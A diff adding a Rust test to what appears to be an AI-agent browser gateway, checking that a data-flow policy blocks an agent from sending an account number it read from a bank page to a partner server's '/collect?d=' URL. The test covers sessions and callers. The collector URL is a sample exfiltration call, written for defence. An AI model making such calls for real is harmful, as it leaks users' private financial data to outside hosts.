@@ -450,3 +450,67 @@ async fn a_new_tab_and_a_urls_userinfo_are_sinks_too() {
     })
     .await;
 }
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn what_a_caller_read_in_one_session_is_checked_in_its_next_and_no_one_elses() {
+    with_browser(|h| async move {
+        let partner = Partner::start().await;
+        let gateway = gateway(&h, &partner, FlowMode::Deny, None).await;
+        // Read in one browser session, which then closes.
+        let reader = gateway.agent_session();
+        let out = reader.call(navigate(h.site.url("flow/bank.html"))).await;
+        assert!(out.text.contains(ACCOUNT), "{}", out.text);
+        reader.close().await;
+        // Sent from a second session of the same caller (as a stateless client's
+        // next one-off call is): refused, nothing reaches the partner.
+        let sender = gateway.agent_session();
+        let send = || navigate(partner.url(&format!("/collect?d={ACCOUNT}")));
+        let out = sender.call(send()).await;
+        assert_eq!(out.error, Some(ErrorCode::PolicyDenied), "{}", out.text);
+        assert!(out.text.contains("data-flow"), "{}", out.text);
+        assert_eq!(partner.requests(), Vec::<String>::new());
+        // Another caller read nothing: the same URL goes.
+        let other = gateway.agent_session_as(
+            airlock_gateway::Principal {
+                tenant: "default".to_owned(),
+                role: airlock_core::Role::Act,
+                key: Some("key_other".to_owned()),
+            },
+            airlock_gateway::Surface::Mcp,
+        );
+        let out = other.call(send()).await;
+        assert_eq!(out.error, None, "{}", out.text);
+        assert_eq!(partner.requests().len(), 1);
+        other.close().await;
+        sender.close().await;
+
+        // With `[flow] scope = "session"` each browser session remembers only its
+        // own reads: the second session's send goes.
+        let mut policy: PolicyConfig = h.site.policy_config();
+        policy
+            .allow_private
+            .push(format!("127.0.0.1:{}", partner.port));
+        let per_session = Gateway::new(
+            h.host().await,
+            GatewayConfig {
+                flow: Flow {
+                    mode: FlowMode::Deny,
+                    scope: airlock_config::FlowScope::Session,
+                    ..Flow::default()
+                },
+                ..GatewayConfig::with_policy(Policy::from_config(&policy).unwrap())
+            },
+        );
+        let reader = per_session.agent_session();
+        reader.call(navigate(h.site.url("flow/bank.html"))).await;
+        let out = reader.call(send()).await;
+        assert_eq!(out.error, Some(ErrorCode::PolicyDenied), "{}", out.text);
+        let sender = per_session.agent_session();
+        let out = sender.call(send()).await;
+        assert_eq!(out.error, None, "{}", out.text);
+        assert_eq!(partner.requests().len(), 2);
+        reader.close().await;
+        sender.close().await;
+    })
+    .await;
+}
